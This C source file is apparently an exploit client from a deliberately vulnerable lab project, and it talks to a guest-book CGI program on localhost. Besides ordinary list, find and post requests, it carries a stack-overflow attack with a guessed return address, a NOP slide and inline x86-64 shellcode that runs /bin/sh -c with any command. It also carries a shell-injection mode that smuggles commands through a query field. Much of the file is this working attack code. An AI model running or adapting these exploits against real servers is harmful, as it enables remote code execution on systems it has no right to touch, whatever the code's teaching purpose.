/*
 * A visitor of the guest book that board.c keeps, behind the web server of
 * this machine: an honest one, or one who knows its holes.
 *
 *     visitor list | find WORD | count WORD | post NAME TEXT
 *     visitor overflow COMMAND | inject COMMAND
 *
 * The answer goes to standard output.
 *
 * Copyright (c) 2026 The Frail developers
 * SPDX-License-Identifier: GPL-2.0-or-later
 */
#include <arpa/inet.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define PORT    8080
#define PAGE    "/cgi-bin/board"
/*
 * Somewhere in the form, which lies on the stack of main(); without
 * randomisation the stack ends at 0x7ffffffff000.  The slide before the
 * payload makes up for what is not known.
 */
#define TARGET  UINT64_C(0x7fffffffd400)
#define SLIDE   5000

/* execve("/bin/sh", { "/bin/sh", "-c", COMMAND }, NULL) */
__asm__(".section .rodata\n"
        "payload:\n"
        "    xor %eax, %eax\n"
        "    push %rax\n"
        "    lea payload_end(%rip), %rbx\n"
        "    push %rbx\n"
        "    lea 2f(%rip), %rbx\n"
        "    push %rbx\n"
        "    lea 1f(%rip), %rdi\n"
        "    push %rdi\n"
        "    mov %rsp, %rsi\n"
        "    xor %edx, %edx\n"
        "    mov $59, %al\n"
        "    syscall\n"
        "1:  .asciz \"/bin/sh\"\n"
        "2:  .asciz \"-c\"\n"
        "payload_end:\n"
        ".previous\n");
extern const char payload[], payload_end[];

static char request[16384];
static size_t len;

static void put(const void *data, size_t n)
{
    if (n > sizeof(request) - len) {
        fprintf(stderr, "visitor: the request is too long\n");
        exit(2);
    }
    memcpy(request + len, data, n);
    len += n;
}

static __attribute__((format(printf, 1, 2))) void print(const char *format,
                                                        ...)
{
    char text[8192];
    va_list ap;
    int n;

    va_start(ap, format);
    n = vsnprintf(text, sizeof(text), format, ap);
    va_end(ap);
    put(text, n < (int)sizeof(text) ? n : (int)sizeof(text) - 1);
}

/* As in a query: what is no letter and no digit as %HH. */
static void put_encoded(const char *text)
{
    for (; *text; text++) {
        int c = (unsigned char)*text;

        if ((c | 32) >= 'a' && (c | 32) <= 'z') {
            put(text, 1);
        } else {
            print("%%%02x", c);
        }
    }
}

static void get(const char *what, const char *before, const char *word,
                const char *after)
{
    print("GET " PAGE "?do=%s&word=", what);
    put_encoded(before);
    put_encoded(word);
    put_encoded(after);
    print(" HTTP/1.0\r\nHost: localhost\r\n\r\n");
}

/* What was put is the form: put the head before it. */
static void post(void)
{
    static char form[sizeof(request)];
    size_t n = len;

    memcpy(form, request, n);
    len = 0;
    print("POST " PAGE " HTTP/1.0\r\nHost: localhost\r\n"
          "Content-Type: application/x-www-form-urlencoded\r\n"
          "Content-Length: %zu\r\n\r\n", n);
    put(form, n);
}

static void overflow(const char *command)
{
    print("name=");
    for (unsigned i = 0; i < 64; i++) {
        put("A", 1);
    }
    /* Over saved registers, up to the return address. */
    for (unsigned i = 0; i < 16; i++) {
        for (unsigned byte = 0; byte < 8; byte++) {
            print("%%%02x", (unsigned)(TARGET >> 8 * byte & 0xff));
        }
    }
    print("&text=");
    for (unsigned i = 0; i < SLIDE; i++) {
        put("\x90", 1);
    }
    put(payload, payload_end - payload);
    put(command, strlen(command) + 1);
    post();
}

static void talk(void)
{
    struct sockaddr_in to = {
        .sin_family = AF_INET,
        .sin_port = htons(PORT),
        .sin_addr.s_addr = htonl(INADDR_LOOPBACK),
    };
    int s = socket(AF_INET, SOCK_STREAM, 0);
    char answer[4096];
    ssize_t n;

    if (s < 0 || connect(s, (struct sockaddr *)&to, sizeof(to)) < 0) {
        perror("visitor: no server");
        exit(1);
    }
    for (size_t sent = 0; sent < len; sent += n) {
        n = write(s, request + sent, len - sent);
        if (n <= 0) {
            perror("visitor: write");
            exit(1);
        }
    }
    while ((n = read(s, answer, sizeof(answer))) > 0) {
        fwrite(answer, 1, n, stdout);
    }
}

int main(int argc, char **argv)
{
    const char *what = argc > 1 ? argv[1] : "";
    const char *word = argc > 2 ? argv[2] : "";

    if (!strcmp(what, "list") || !strcmp(what, "find") ||
        !strcmp(what, "count")) {
        get(what, "", word, "");
    } else if (!strcmp(what, "inject")) {
        get("count", "x' /dev/null; ", word, "; echo '");
    } else if (!strcmp(what, "post")) {
        print("name=%s&text=%s", word, argc > 3 ? argv[3] : "");
        post();
    } else if (!strcmp(what, "overflow")) {
        overflow(word);
    } else {
        fprintf(stderr, "visitor: see its source for what it can do\n");
        return 2;
    }
    talk();
    return 0;
}
